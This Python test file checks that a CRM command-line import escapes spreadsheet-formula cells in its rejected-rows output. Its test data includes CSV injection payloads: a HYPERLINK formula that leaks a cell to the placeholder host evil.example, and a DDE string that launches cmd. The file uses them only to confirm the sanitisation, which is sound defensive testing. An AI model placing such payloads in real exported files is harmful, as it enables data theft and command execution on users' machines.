"""`switchboard import customers --errors FILE` writes a spreadsheet-safe file (issue 14,
item 12): a rejected row's cells that a spreadsheet would run as a formula (`=`, `+`,
`-`, `@`, tab, CR) are prefixed with `'`; other cells are written as the file had them."""

from __future__ import annotations

import csv
from pathlib import Path

from crm_sync.csv_rows import COLUMNS
from tests.support.cli_process import run_cli

HOSTILE = [
    "=C7",
    '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
    "+380672143581",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tEurope/Kyiv",
    "xx",  # an unknown language: the row is rejected
    "-2+3",
    "\ragent-201",
]


async def test_rejected_rows_are_written_spreadsheet_safe(
    database_url: str, tmp_path: Path
) -> None:
    source = tmp_path / "hostile.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(COLUMNS)
        writer.writerow(HOSTILE)
        writer.writerow(["C8", "Plain Name", "", "", "", "xx", "Київ", "agent-201"])
    errors = tmp_path / "rejects.csv"
    status, out, err = await run_cli(
        database_url, "import", "customers", str(source), "--errors", str(errors), "--no-progress"
    )
    assert status == 3, (out, err)
    with errors.open(encoding="utf-8", newline="") as handle:
        header, hostile, plain = list(csv.reader(handle))
    assert header == ["line", "reason", *COLUMNS]
    assert hostile[0] == "2"
    assert hostile[2:] == ["'" + cell if cell != "xx" else cell for cell in HOSTILE]
    assert plain[2:] == ["C8", "Plain Name", "", "", "", "xx", "Київ", "agent-201"]
